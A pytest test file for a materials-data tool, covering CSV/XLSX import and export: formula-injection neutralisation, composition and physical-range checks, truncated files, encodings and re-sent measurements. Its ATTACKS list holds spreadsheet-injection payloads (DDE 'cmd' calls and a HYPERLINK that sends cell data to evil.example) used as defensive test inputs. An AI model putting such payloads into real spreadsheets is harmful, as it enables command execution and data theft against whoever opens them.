"""Issue 11 §4: sheets cannot smuggle formulas out or bad values in (each attack replayed).

Real parts: real CSV/XLSX files (openpyxl), the real HDF5 store, the real campaign journal,
the real CLI in a subprocess.
"""
from __future__ import annotations

import re

import zipfile

import openpyxl
import pytest

from dm_hpc.data import MaterialRecord, Store
from dm_hpc.data.resend import resolve_resends
from dm_hpc.data.sheetfiles import neutralise, unneutralise, write_rows
from dm_hpc.data.sheets import SheetError, read_sheet, read_sheet_contents, write_sheet
from tests.campaign.helpers import dm

# (tab- and CR-led formulas are refused in record fields now: control characters, test_strict_names)
ATTACKS = ["=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
           '=HYPERLINK("http://evil.example/?x="&A1,"click")', "'=already quoted"]
HEADER = "sample_id,composition:Cu [at_frac],composition:Ni [at_frac],property:density [g/cm^3]"


def xlsx_xml(path) -> str:
    with zipfile.ZipFile(path) as z:
        return "".join(z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/"))


def record(method: str, sample_id: str = "S1", density: float = 8.9, **prov) -> MaterialRecord:
    return MaterialRecord.model_validate({
        "composition": {"Cu": 0.5, "Ni": 0.5}, "sample_id": sample_id,
        "properties": [{"name": "density", "value": density}],
        "provenance": {"source": "experimental", "method": method, **prov},
    })


# ------------------------------------------------------------------------------- writing
@pytest.mark.parametrize("text", ATTACKS)
def test_neutralise_marks_every_formula_start_and_is_undone_on_reading(text):
    safe = neutralise(text)
    assert safe.startswith("'") and unneutralise(safe) == text


@pytest.mark.parametrize("text", ["-0.05", "+3e5", "-.5", "plain", "Cu0.5Ni0.5", "a=b"])
def test_numbers_and_plain_text_are_left_alone(text):
    assert neutralise(text) == text


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_exported_sheets_hold_no_formula_and_read_back_unchanged(tmp_path, suffix):
    """The attack: a method (lab) name '=cmd|...' exported raw to CSV, as a live <f> to XLSX."""
    recs = [record(m[:40], f"S{i}", contributor=m) for i, m in enumerate(ATTACKS)]
    with Store.open(tmp_path / "s", "a") as store:
        store.ingest(recs)
    out = write_sheet(list(Store.open(tmp_path / "s").records()), tmp_path / f"x{suffix}")
    if suffix == ".xlsx":
        xml = xlsx_xml(out)
        assert "<f>" not in xml and "<f " not in xml
        ws = openpyxl.load_workbook(out).active
        cells = [c for row in ws.iter_rows() for c in row]
        assert not any(c.data_type == "f" for c in cells)
        texts = [c.value for c in cells if isinstance(c.value, str)]
    else:
        import csv

        texts = [cell for row in csv.reader(out.open(newline="")) for cell in row]
    dangerous = [t for t in texts if t.startswith(("=", "+", "@", "\t", "\r")) or (t.startswith("-") and t[1:2].isalpha())]
    assert dangerous == []
    assert sum(t.startswith("'") for t in texts) >= 2 * len(ATTACKS)  # method and contributor cells
    back = read_sheet(out)
    assert {r.record_id for r in back} == {r.record_id for r in recs}
    assert sorted(r.provenance.contributor for r in back) == sorted(ATTACKS)


def test_every_writer_goes_through_the_safe_writer(tmp_path):
    """store query --out used DataFrame.to_csv: a method '=...' landed raw."""
    with Store.open(tmp_path / "s", "a") as store:
        store.ingest([record(ATTACKS[0])])
    res = dm("store", "query", "--store", str(tmp_path / "s"), "--out", str(tmp_path / "q.csv"))
    assert res.returncode == 0, res.stderr
    assert f",'{ATTACKS[0][:4]}" in (tmp_path / "q.csv").read_text() or "\"'=cmd" in (tmp_path / "q.csv").read_text()
    write_rows(["a", "=b"], [["=c", 1.5], [None, "-x"]], tmp_path / "t.xlsx")
    assert "<f>" not in xlsx_xml(tmp_path / "t.xlsx")
    ws = openpyxl.load_workbook(tmp_path / "t.xlsx").active
    assert [[c.value for c in row] for row in ws.iter_rows()] == [["a", "'=b"], ["'=c", 1.5], [None, "'-x"]]


def test_control_characters_do_not_break_an_xlsx(tmp_path):
    write_rows(["method"], [["lab\x00\x01"]], tmp_path / "c.xlsx")
    assert openpyxl.load_workbook(tmp_path / "c.xlsx").active["A2"].value == "lab\ufffd\ufffd"


# ------------------------------------------------------------------------------- reading
def sheet(tmp_path, text: str, name: str = "lab.csv", encoding: str = "utf-8"):
    path = tmp_path / name
    path.write_bytes(text.encode(encoding))
    return path


def problems(path, **kw) -> str:
    with pytest.raises(SheetError) as info:
        read_sheet(path, **kw)
    return str(info.value)


def test_composition_that_does_not_sum_is_an_error_naming_the_sum(tmp_path):
    """Al 1.5 was rescaled to 0.70 and Al 1e308 became pure Al."""
    text = problems(sheet(tmp_path, "sample_id,composition:Al [at_frac],composition:Cu [at_frac],property:density [g/cm^3]\n"
                                    "A,1.5,-0.03,3\nB,1.47,0,3\nC,1e308,0.5,3\nD,0.6,0.4,3\nE,0.333,0.333,3\n"
                                    "F,0.505,0.505,3\nG,0.51,0.51,3\n"))
    assert re.search(r"line 2: sample 'A', column 'composition:Cu \[at_frac\]', value '-0.03': negative amount of Cu", text)
    assert "line 3: sample 'B': composition sums to 1.47 at_frac, not 1" in text
    assert "line 4: sample 'C': composition sums to 1e+308" in text
    assert "line 5" not in text
    assert "line 6: sample 'E': composition sums to 0.666" in text
    assert "line 7" not in text and "line 8: sample 'G': composition sums to 1.02" in text  # tolerance 0.01, inclusive
    path = sheet(tmp_path, "sample_id,composition:Al [at%],composition:Cu [at%],property:density [g/cm^3]\nA,33.3,66.6,3\n")
    assert read_sheet(path)[0].composition.fractions["Al"] == pytest.approx(33.3 / 99.9)


def test_a_material_class_range_holds_measurements_not_calculations(tmp_path):
    """A computed metal's negative bulk modulus (an unstable cell) is inside the general range and
    ``Store.ingest`` stores it; its export was then refused on re-import by the metal's range, which
    is for measurements (found by review). A measured row is still held to it."""
    path = sheet(tmp_path, "sample_id,source,method,composition:Cu [at_frac],property:bulk_modulus [GPa]\n"
                           "A,computed,dft,1,-5\nB,experimental,lab,1,-5\n")
    text = problems(path)
    assert "line 2" not in text
    assert "line 3" in text and "bulk_modulus -5 GPa is outside the physical range (0 to 500 GPa for a metal)" in text


def test_values_outside_the_physical_range_are_errors(tmp_path):
    path = sheet(tmp_path, "sample_id,composition:Cu [at_frac],process:roll:reduction [%],property:density [g/cm^3],"
                           "property:elongation [%],property:bandgap [eV]\n"
                           "A,1,10,-8.9,5,1\nB,1,150,8.9,5,1\nC,1,10,8.9,-5,1\nD,1,10,8.9,5,-0.1\nE,1,10,8.9,5,0\n")
    text = problems(path)
    assert "line 2" in text and "density -8.9 g/cm^3 is outside the physical range (0.5 to 23 g/cm^3 for a metal)" in text
    assert "line 3" in text and "reduction 150 percent is outside the physical range (0 to 100 percent)" in text
    assert "line 4" in text and "elongation -5" in text
    assert "line 5" in text and "bandgap -0.1" in text
    assert "line 6" not in text
    with pytest.raises(ValueError, match="density -1"):
        record("lab", density=-1.0)  # also where records are built in code


def test_truncated_csv_is_an_error_not_a_short_row(tmp_path):
    """A CSV cut mid-row was ingested without its last value."""
    full = f"{HEADER}\nA,0.5,0.5,8.9\nB,0.5,0.5,8.8\n"
    cut = full[: full.rindex(",")]  # B's density cut off
    assert "line 3: 3 of 4 cells: the row is cut short" in problems(sheet(tmp_path, cut))
    assert "unterminated quote" in problems(sheet(tmp_path, full + 'C,0.5,0.5,"8'))
    assert "5 cells but the header has 4" in problems(sheet(tmp_path, f"{HEADER}\nA,0.5,0.5,8.9,1\n"))
    assert len(read_sheet(sheet(tmp_path, full.rstrip("\n")))) == 2  # a full last row without newline is fine


def test_excel_semicolon_decimal_comma_cp1252(tmp_path):
    text = ("sample_id;composition:Cu [at_frac];composition:Ni [at_frac];property:tensile_strength [MPa];notes\r\n"
            "Probe-é1;0,25;0,75;8,9;Öl µm\r\nP2;0,5;0,5;1.234,5;x\r\n")
    recs = read_sheet(sheet(tmp_path, text, encoding="cp1252"))
    assert recs[0].sample_id == "Probe-é1" and recs[0].composition.fractions == {"Cu": 0.25, "Ni": 0.75}
    assert recs[0].get_property("tensile_strength").value == 8.9 and recs[0].provenance.extra["notes"] == "Öl µm"
    assert recs[1].get_property("tensile_strength").value == 1234.5
    utf8_bom = "\ufeff" + text.replace("é", "e")
    assert read_sheet(sheet(tmp_path, utf8_bom, name="b.csv"))[0].sample_id == "Probe-e1"
    tabbed = sheet(tmp_path, text.replace(";", "\t"), name="t.tsv", encoding="utf-16")
    assert read_sheet(tabbed)[1].get_property("tensile_strength").value == 1234.5
    with pytest.raises(SheetError, match=r"a \.txt file is refused"):  # one list of types for every door
        read_sheet(sheet(tmp_path, text, name="t.txt", encoding="cp1252"))


def test_sheet_option_and_wrong_file_types(tmp_path):
    wb = openpyxl.Workbook()
    wb.active.title = "notes"
    wb.active.append(["this sheet is notes"])
    ws = wb.create_sheet("results")
    ws.append(HEADER.split(","))
    ws.append(["A", 0.5, 0.5, 8.9, None, "operator: Ann"])  # a note right of the table
    wb.save(tmp_path / "book.xlsx")
    contents = read_sheet_contents(tmp_path / "book.xlsx", sheet="results")
    assert [r.sample_id for r in contents.records] == ["A"] and any("Unnamed: 5" in w for w in contents.warnings)
    assert "no sheet 'Results'; the workbook has 'notes', 'results'" in problems(tmp_path / "book.xlsx", sheet="Results")
    renamed = sheet(tmp_path, f"{HEADER}\nA,0.5,0.5,8.9\n", name="renamed.xlsx")  # a CSV renamed .xlsx
    assert "not an XLSX workbook" in problems(renamed)
    zipped = tmp_path / "book.csv"
    zipped.write_bytes((tmp_path / "book.xlsx").read_bytes())
    assert "name it .xlsx" in problems(zipped)
    broken = tmp_path / "broken.xlsx"
    broken.write_bytes((tmp_path / "book.xlsx").read_bytes()[:600])  # a truncated workbook
    assert "not a readable XLSX workbook" in problems(broken)


FORMULA = "value '=8.8+0.1': a formula without a saved result"


def test_formula_without_a_saved_result_is_not_read_as_empty(tmp_path):
    """A workbook written by a program holds formulas without results: not "not made". Refused in
    any column (a note's too), together with the sheet's other problems, each formula by its
    column's name: it once refused the sheet alone, before any other cell was checked."""
    wb = openpyxl.Workbook()
    wb.active.append(HEADER.split(",") + ["notes"])
    wb.active.append(["A", 0.5, 0.5, "=8.8+0.1", None])
    wb.active.append(["B", 0.5, 0.97, 8.9, "=CONCAT(\"furnace \", 2)"])
    wb.active.append(["C", "=1-B4", 0.5, 8.9, None])
    wb.save(tmp_path / "f.xlsx")
    text = problems(tmp_path / "f.xlsx")
    assert "4 problem(s)" in text, text
    assert f"line 2: sample 'A', column 'property:density [g/cm^3]', {FORMULA}" in text, text
    assert "line 3: sample 'B', column 'notes', value '=CONCAT(\"furnace \", 2)': a formula without" in text, text
    assert "line 3: sample 'B'" in text and "composition sums to 1.47" in text, text
    # the formula's amount unread, C's sum is not checked: no "sums to 0.5" beside it
    assert "line 4: sample 'C', column 'composition:Cu [at_frac]', value '=1-B4'" in text and "0.5 at_frac" not in text


def _rewrite_part(path, name, change, rename=None):
    """Rewrite one part of a workbook (``change``: bytes -> bytes), optionally under a new name
    (``rename``: the part moves and every reference to it follows)."""
    with zipfile.ZipFile(path) as zf:
        parts = {i.filename: zf.read(i) for i in zf.infolist()}
    parts[name] = change(parts[name])
    if rename:
        parts[rename] = parts.pop(name)
        old, new = name.split("/", 1)[1].encode(), rename.split("/", 1)[1].encode()
        parts = {k: v.replace(old, new).replace(b"/" + name.encode(), b"/" + rename.encode()) for k, v in parts.items()}
    with zipfile.ZipFile(path, "w") as zf:
        for k, v in parts.items():
            zf.writestr(k, v)


SHEET_XML = "xl/worksheets/sheet1.xml"


def _prefixed(xml: bytes) -> bytes:
    """The same worksheet with its elements under an ``x:`` prefix (``<x:c>``, ``<x:f>``)."""
    ns = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    body = re.sub(rb"<(/?)(?![?!])([A-Za-z]+)([\s>/])", rb"<\1x:\2\3", xml.split(b"?>", 1)[-1])
    return body.replace(f'xmlns="{ns}"'.encode(), f'xmlns:x="{ns}"'.encode(), 1)


def _shared(xml: bytes) -> bytes:
    """The formula of D2 shared with D3 (D3 holds only ``<f t="shared" si="0"/>``)."""
    xml = re.sub(rb'<c r="D2"([^>]*)><f>([^<]*)</f>', rb'<c r="D2"\1><f t="shared" ref="D2:D3" si="0">\2</f>', xml)
    return re.sub(rb'<c r="D3"[^>]*>.*?</c>', b'<c r="D3"><f t="shared" si="0"/></c>', xml, flags=re.S)


@pytest.mark.parametrize("variant", ["plain", "prefixed", "relocated", "shared"])
def test_formula_without_a_saved_result_is_found_however_the_workbook_writes_it(tmp_path, variant):
    """The reader skips its second, formula-reading pass when no part of the workbook holds a
    formula element: a prefixed element, a sheet stored outside ``xl/worksheets/`` or a shared
    formula must still be seen."""
    wb = openpyxl.Workbook()
    wb.active.append(HEADER.split(",") + ["notes"])
    wb.active.append(["A", 0.5, 0.5, "=8.8+0.1", None])
    wb.active.append(["B", 0.5, 0.5, 8.9, None])
    path = tmp_path / "f.xlsx"
    wb.save(path)
    if variant == "prefixed":
        _rewrite_part(path, SHEET_XML, _prefixed)
    elif variant == "relocated":
        _rewrite_part(path, SHEET_XML, lambda xml: xml, rename="xl/data/results.xml")
    elif variant == "shared":
        _rewrite_part(path, SHEET_XML, _shared)
    text = problems(path)
    assert f"line 2: sample 'A', column 'property:density [g/cm^3]', {FORMULA}" in text, text
    if variant == "shared":
        assert "line 3: sample 'B', column 'property:density [g/cm^3]', value '=" in text, text


def test_a_workbook_without_formulas_is_read_in_one_pass(tmp_path, monkeypatch):
    """Blank cells (the notes column) and no formula anywhere: the formula pass is not run."""
    import dm_hpc.data.sheetfiles as sf

    wb = openpyxl.Workbook()
    wb.active.append(HEADER.split(",") + ["notes"])
    wb.active.append(["A", 0.5, 0.5, 8.9, None])
    wb.save(tmp_path / "ok.xlsx")
    passes, real = [], sf._sheet_values

    def counted(*args, **kwargs):
        passes.append(args)
        return real(*args, **kwargs)

    monkeypatch.setattr(sf, "_sheet_values", counted)
    assert [r.sample_id for r in read_sheet(tmp_path / "ok.xlsx")] == ["A"]
    assert len(passes) == 1, passes


def test_extra_columns_are_ignored_with_a_warning_template_typos_are_errors(tmp_path):
    contents = read_sheet_contents(sheet(tmp_path, f"{HEADER},Operator,\nA,0.5,0.5,8.9,Ann,\n"))
    assert len(contents.records) == 1 and contents.warnings == ["column 'Operator' is not a template column; ignored"]
    assert "unknown property 'densty'" in problems(sheet(tmp_path, f"{HEADER},property:densty [g/cm3]\nA,0.5,0.5,8.9,1\n"))
    assert "appears twice" in problems(sheet(tmp_path, f"{HEADER},sample_id\nA,0.5,0.5,8.9,B\n"))


def test_a_misspelt_property_column_is_one_problem_with_one_guess(tmp_path):
    """First-hour review: 'property:mixing_enrgy' said "did you mean" twice, listed the whole
    vocabulary, and added the errors it caused (an orphan uncertainty, no property column).
    The header problem no longer hides the bad cells of the columns that read (a lab that fixed
    the header learnt of a bad density beside it from a second refusal); the uncertainty of the
    misspelt property is not read (no property column to read it with) and says nothing."""
    header = "sample_id,composition:Cu [at_frac],composition:Ni [at_frac],"
    misspelt = (1, "column 'property:mixing_enrgy [meV/atom]': unknown property 'mixing_enrgy'; "
                   "did you mean 'property:mixing_energy [meV/atom]'?")
    with pytest.raises(SheetError) as info:
        read_sheet(sheet(tmp_path, f"{header}property:mixing_enrgy [meV/atom],uncertainty:mixing_energy [meV/atom]\n"
                                   "A,0.5,0.5,10,1\n"))
    assert info.value.problems == [misspelt], info.value.problems
    with pytest.raises(SheetError) as info:
        read_sheet(sheet(tmp_path, f"{header}property:mixing_enrgy [meV/atom],uncertainty:mixing_energy [meV/atom],"
                                   "property:density [g/cm^3]\nA,0.5,0.5,10,1,abc\nB,0.5,0.5,10,-1,8.9\n"))
    assert info.value.problems == [misspelt, (
        2, "sample 'A', column 'property:density [g/cm^3]', value 'abc': not a number: type the measured value, "
           "or write 'not made' if the sample was not made")], info.value.problems
    # a process parameter is guessed as one, in its step; with no close name the known ones are listed
    text = problems(sheet(tmp_path, f"{header}process:anneal:temprature [K],property:density [g/cm^3]\nA,0.5,0.5,900,8.9\n"))
    assert "did you mean 'process:anneal:temperature [K]'?" in text and text.count("did you mean") == 1, text
    text = problems(sheet(tmp_path, f"{header}property:colour [nm]\nA,0.5,0.5,2\n"))
    assert "unknown property 'colour'; known: " in text and "did you mean" not in text, text
    assert "1 problem(s)" in text, text  # not also "no property:<name> [unit] column"


def test_blank_measurement_row_is_pending_not_a_value_and_not_made_only_when_marked(tmp_path):
    """Issue 21: blank cells were read as "not made" and cleared the queue; absence infers nothing."""
    contents = read_sheet_contents(sheet(tmp_path, f"{HEADER},uncertainty:density [g/cm^3]\nA,0.5,0.5,8.9,\nB,0.5,0.5,,\n"
                                                   "C,0.5,0.5,not made,\n"), known_ids={"A", "B", "C"})
    assert [r.sample_id for r in contents.records] == ["A"]
    assert contents.pending == [(3, "B")] and contents.not_made == [(4, "C")]
    assert any("pending" in w and "not made" in w for w in contents.warnings)
    assert "says 'not made' but also holds" in problems(sheet(tmp_path, f"{HEADER},property:hardness [GPa]\nB,0.5,0.5,8.9,not made\n"))
    assert "uncertainty without a value" in problems(sheet(tmp_path, f"{HEADER},uncertainty:density [g/cm^3]\nB,0.5,0.5,,0.1\n"))


@pytest.mark.parametrize("text, expected", [
    ("- a\n", "a column map is a mapping"),
    ("columns: [a, b]\n", "columns"),
    ("columns: {a: {to: x, valuez: 1}}\n", "valuez"),
    ("columns: {a: 'property:density [g/cm3]', b: 'property:density [g/cm3]'}\n", "filled twice"),
    ("constants: {method: [1, 2]}\n", "constants.method"),
    ("a: !!python/object foo\n", "not a valid YAML"),
    ("[" * 3000, "not a valid YAML"),
])
def test_bad_column_maps_are_clear_errors(tmp_path, text, expected):
    data = sheet(tmp_path, "a,b\n1,2\n")
    cmap = tmp_path / "map.yaml"
    cmap.write_text(text)
    with pytest.raises(SheetError, match=str(cmap)) as info:
        read_sheet(data, column_map=cmap)
    assert expected in str(info.value)


def test_resent_measurement_needs_replace_and_keeps_the_old_one(tmp_path):
    """Re-sending a corrected value stored both, with no way to replace one."""
    first = sheet(tmp_path, f"{HEADER},property:hardness [GPa]\nS1,0.5,0.5,8.9,2\nS2,0.5,0.5,8.8,2\n")
    with Store.open(tmp_path / "s", "a") as store:
        c = read_sheet_contents(first)
        store.ingest(resolve_resends(store, c.records, c.lines, str(first)))
        c = read_sheet_contents(first)  # the same sheet again: idempotent, no error
        assert store.ingest(resolve_resends(store, c.records, c.lines, str(first))).new == 0
        old_id = store.to_dataframe(sample_id="S1")["record_id"].item()

        corrected = sheet(tmp_path, f"{HEADER},property:hardness [GPa]\nS1,0.5,0.5,8.95,2\n", name="fix.csv")
        c = read_sheet_contents(corrected)
        with pytest.raises(SheetError) as info:
            resolve_resends(store, c.records, c.lines, str(corrected))
        assert "line 2: sample 'S1': density is already stored as 8.9 g/cm^3" in str(info.value)
        assert "this sheet says 8.95" in str(info.value) and "--replace" in str(info.value)
        partial = sheet(tmp_path, f"{HEADER}\nS1,0.5,0.5,8.95\n", name="partial.csv")
        c = read_sheet_contents(partial)
        with pytest.raises(SheetError, match="also holds hardness"):
            resolve_resends(store, c.records, c.lines, str(partial), replace=True)
        assert len(store) == 2  # nothing stored by a refused sheet

        c = read_sheet_contents(corrected)
        (new,) = resolve_resends(store, c.records, c.lines, str(corrected), replace=True)
        assert new.provenance.supersedes == [old_id]
        store.ingest([new])
        c = read_sheet_contents(first)
        with pytest.raises(SheetError, match="later corrected"):
            resolve_resends(store, c.records[:1], c.lines[:1], str(first), replace=True)
    with Store.open(tmp_path / "s") as reader:
        assert len(reader) == 3  # the old value is kept
        df = reader.to_dataframe()
        assert sorted(df["density"]) == [8.8, 8.95]  # queries show the current value only
        assert sorted(reader.to_dataframe(superseded=True)["density"]) == [8.8, 8.9, 8.95]
        assert reader.get(old_id).get_property("density").value == 8.9
        assert len(list(reader.records())) == 2
        assert reader.get(new.record_id).provenance.supersedes == [old_id]


def test_cli_import_replace_sheet_and_errors_without_traceback(tmp_path):
    store = str(tmp_path / "s")
    first = sheet(tmp_path, f"{HEADER},Operator\nS1,0.5,0.5,8.9,Ann\n")
    res = dm("store", "import", str(first), "--store", store)
    assert res.returncode == 0 and "ingested 1 records (1 new)" in res.stdout
    assert "warning: column 'Operator' is not a template column; ignored" in res.stderr
    fix = sheet(tmp_path, f"{HEADER}\nS1,0.5,0.5,9.1\n", name="fix.csv")
    res = dm("store", "import", str(fix), "--store", store)
    assert res.returncode == 2 and "use --replace" in res.stderr and "Traceback" not in res.stderr
    res = dm("store", "import", str(fix), "--store", store, "--replace")
    assert res.returncode == 0 and "ingested 1 records (1 new)" in res.stdout
    res = dm("store", "export", str(tmp_path / "x.csv"), "--store", store)
    assert res.returncode == 0 and "exported 1 records" in res.stdout
    renamed = sheet(tmp_path, f"{HEADER}\nS1,0.5,0.5,9.1\n", name="r.xlsx")
    cmap = tmp_path / "list.yaml"
    cmap.write_text("- a\n")
    for args in (["store", "import", str(renamed), "--store", store],
                 ["store", "import", str(fix), "--map", str(cmap), "--store", store],
                 ["store", "import", str(fix), "--sheet", "x", "--store", store],
                 ["store", "query", "--store", store, "--out", str(tmp_path / "q.txt")],
                 ["store", "export", str(tmp_path / "missing" / "x.csv"), "--store", store]):
        res = dm(*args)
        assert res.returncode == 2 and "error:" in res.stderr and "Traceback" not in res.stderr, res.stderr
    bad_unit = sheet(tmp_path, "sample_id,composition:Cu [at_frac],property:mixing_energy [eV/atom]\nA,1,x\n", name="u.csv")
    res = dm("store", "import", str(bad_unit), "--store", store)
    assert "column 'property:mixing_energy [eV/atom]', value 'x': not a number" in res.stderr  # brackets are not markup


def test_a_workbooks_sheet_part_is_read_once_for_its_merges_and_its_valueless_cells(tmp_path, monkeypatch):
    """The reader looked for number cells without a value in the worksheet's XML, then unzipped
    and read the same part again for its merges."""
    wb = openpyxl.Workbook()
    wb.active.append(HEADER.split(",") + ["notes"])
    wb.active.append(["A", 0.5, 0.5, 8.9, "one furnace run"])
    wb.active.append(["B", 0.5, 0.5, 8.8, None])
    wb.active.merge_cells("E2:E3")
    wb.save(tmp_path / "merged.xlsx")
    reads, real = [], zipfile.ZipFile.read

    def counted(self, name, pwd=None):
        reads.append(getattr(name, "filename", name))
        return real(self, name, pwd)

    monkeypatch.setattr(zipfile.ZipFile, "read", counted)
    records = read_sheet(tmp_path / "merged.xlsx")
    assert [r.provenance.extra.get("notes") for r in records] == ["one furnace run"] * 2
    assert reads.count("xl/worksheets/sheet1.xml") == 1, reads
